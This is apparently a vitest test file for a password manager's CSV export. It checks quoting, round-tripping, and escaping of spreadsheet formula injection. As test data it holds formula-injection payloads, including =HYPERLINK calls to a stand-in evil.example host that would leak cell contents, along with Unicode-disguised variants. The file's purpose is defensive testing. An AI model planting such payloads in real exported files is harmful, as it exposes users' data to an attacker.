import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { CSV_EXPORT_COLUMNS, csvText, exportCsv } from '../../../../src/features/import/export/csvExport';
import type { ExportedEntry } from '../../../../src/features/import/export/exportedVault';
import { fixtureVault } from './fixtureVault';

const entry = (fields: Partial<ExportedEntry>): ExportedEntry => ({
  title: 'T',
  url: null,
  username: '',
  password: '',
  notes: null,
  group: null,
  ...fields,
});

function parsed(text: string): string[][] {
  expect(text.endsWith('\r\n')).toBe(true);
  const result = Papa.parse<string[]>(text.slice(0, -2), { header: false, skipEmptyLines: false });
  expect(result.errors).toEqual([]);
  return result.data;
}

describe('exportCsv', () => {
  it('writes the header folder,title,url,username,password,notes and one CRLF-separated row per entry', () => {
    const { text } = exportCsv({ groups: [], entries: [entry({ title: 'Plain', url: 'https://x.example', username: 'u', password: 'p', notes: 'n', group: 'G' })] });
    expect(text).toBe('folder,title,url,username,password,notes\r\nG,Plain,https://x.example,u,p,n\r\n');
    expect(CSV_EXPORT_COLUMNS).toEqual(['folder', 'title', 'url', 'username', 'password', 'notes']);
  });

  it('quotes commas, quotes (doubled), line breaks and edge spaces, RFC 4180', () => {
    const { text } = exportCsv({ groups: [], entries: [entry({ title: 'a,b', username: 'say "hi"', notes: 'one\ntwo', password: ' pad ' })] });
    expect(text.split('\r\n')[1]).toBe(',"a,b",,"say ""hi"""," pad ","one\ntwo"');
  });

  it('writes empty and null fields as empty cells', () => {
    const { text } = exportCsv({ groups: [], entries: [entry({ title: 'Only a title' })] });
    expect(text.split('\r\n')[1]).toBe(',Only a title,,,,');
  });

  it('round-trips every value of the fixture through papaparse’s own parser, except the escaped cells', () => {
    const { text, escaped } = exportCsv(fixtureVault);
    const rows = parsed(text);
    expect(rows[0]).toEqual([...CSV_EXPORT_COLUMNS]);
    expect(rows).toHaveLength(fixtureVault.entries.length + 1);
    fixtureVault.entries.forEach((original, index) => {
      const expected = [original.group ?? '', original.title, original.url ?? '', original.username, original.password, original.notes ?? ''];
      const written = expected.map((value, column) =>
        escaped.some((cell) => cell.entry === index + 1 && cell.column === CSV_EXPORT_COLUMNS[column]) ? `'${value}` : value,
      );
      expect(rows[index + 1]).toEqual(written);
    });
    // Multi-line notes, quotes, commas and unicode came back whole.
    expect(rows[1]?.[5]).toBe('Line one\nLine two, with a comma\r\n"Quoted" line three');
    expect(rows[2]?.[4]).toBe('ünïcödé-🔑-密码');
    expect(rows[5]?.[4]).toBe('שלום עולם');
  });

  it.each([
    ['=', '=HYPERLINK("http://evil.example","x")'],
    ['+', '+1+1'],
    ['-', '-2+3'],
    ['@', '@SUM(A1)'],
    ['a tab', '\t=1+1'],
    ['a carriage return', '\r=1+1'],
    ['= on a multi-line value', '=HYPERLINK("http://evil.example")\nsecond line'],
  ])('writes a cell starting with %s with a leading quote, so spreadsheets show it as text', (_label, value) => {
    const { text, escaped } = exportCsv({ groups: [], entries: [entry({ title: 'x', password: value })] });
    expect(parsed(text)[1]?.[4]).toBe(`'${value}`);
    expect(escaped).toEqual([{ entry: 1, title: 'x', column: 'password' }]);
  });

  it('leaves values alone that only contain those characters later, or start with a space, a no-break space or a quote before text', () => {
    const values = ['a=b', 'x+1', 'mail@example.com', ' pad ', '\u00a0plain', '\u3000text =1', "'quoted", '１２３', 'a＝b', '\u2212minus sign'];
    const { text, escaped } = exportCsv({ groups: [], entries: values.map((notes) => entry({ notes })) });
    expect(parsed(text).slice(1).map((row) => row[5])).toEqual(values);
    expect(escaped).toEqual([]);
  });

  it('lists a disguised formula among the escaped cells too', () => {
    const { escaped } = exportCsv({ groups: [], entries: [entry({ title: 'x', username: '\u00a0=1+1', notes: '＠SUM(A1)' })] });
    expect(escaped).toEqual([
      { entry: 1, title: 'x', column: 'username' },
      { entry: 1, title: 'x', column: 'notes' },
    ]);
  });

  it('lists every escaped cell of the fixture by entry and column', () => {
    expect(exportCsv(fixtureVault).escaped).toEqual([
      { entry: 4, title: '=HYPERLINK("http://evil.example/?"&A1,"click")', column: 'title' },
      { entry: 4, title: '=HYPERLINK("http://evil.example/?"&A1,"click")', column: 'username' },
      { entry: 4, title: '=HYPERLINK("http://evil.example/?"&A1,"click")', column: 'password' },
      { entry: 4, title: '=HYPERLINK("http://evil.example/?"&A1,"click")', column: 'notes' },
      { entry: 5, title: 'Tab\tand CR', column: 'url' },
      { entry: 5, title: 'Tab\tand CR', column: 'username' },
    ]);
  });

  it('writes only the header for an empty vault', () => {
    expect(exportCsv({ groups: [], entries: [] }).text).toBe('folder,title,url,username,password,notes\r\n');
  });
});

// The one CSV writer: the export above, the import's skipped list and the activity log's file
// (through loadCsvWriter) all write with csvText. Issue #41.4: a formula in disguise is still a formula.
describe('csvText against formulas in disguise', () => {
  it.each([
    ['a space', ' =1+1'],
    ['several spaces', '   +1+1'],
    ['a no-break space', '\u00a0=HYPERLINK("http://evil.example")'],
    ['a narrow no-break space', '\u202f-2+3'],
    ['an ideographic space', '\u3000@SUM(A1)'],
    ['a byte-order mark', '\ufeff=1+1'],
    ['a tab then =', '\t=1+1'],
    ['a tab alone', '\tplain'],
    ['a carriage return', '\r=1+1'],
    ['a line feed', '\n=1+1'],
    ['CRLF', '\r\n=1+1'],
    ['a run of mixed whitespace', ' \t\u00a0\n @SUM(A1)'],
    ['a full-width =', '＝HYPERLINK("http://evil.example")'],
    ['a full-width +', '＋1+1'],
    ['a full-width -', '－2+3'],
    ['a full-width @', '＠SUM(A1)'],
    ['a space then a full-width =', ' ＝1+1'],
    ['a small =', '﹦1+1'],
    ['a small +', '﹢1+1'],
    ['a small -', '﹣1+1'],
    ['a small @', '﹫SUM(A1)'],
    ['a disguise on a multi-line value', ' =HYPERLINK("http://evil.example")\nsecond line'],
  ])('writes a cell starting with %s after a leading quote', (_label, value) => {
    const text = csvText(['a', 'b'], [['plain', value]]);
    expect(parsed(text)[1]).toEqual(['plain', `'${value}`]);
  });

  // Issue #44: so that reading Keyloft's CSV back can drop exactly the quote csvText added.
  it.each([
    ['a quote before =', "'=1+1"],
    ['two quotes before +', "''+1"],
    ['a quote before a disguise', "'\u00a0=1+1"],
  ])('writes a value that already has %s after one more quote', (_label, value) => {
    expect(parsed(csvText(['a', 'b'], [['plain', value]]))[1]).toEqual(['plain', `'${value}`]);
  });

  it('escapes the header cells too', () => {
    expect(parsed(csvText(['\u00a0=x', 'b'], []))[0]).toEqual(["'\u00a0=x", 'b']);
  });
});
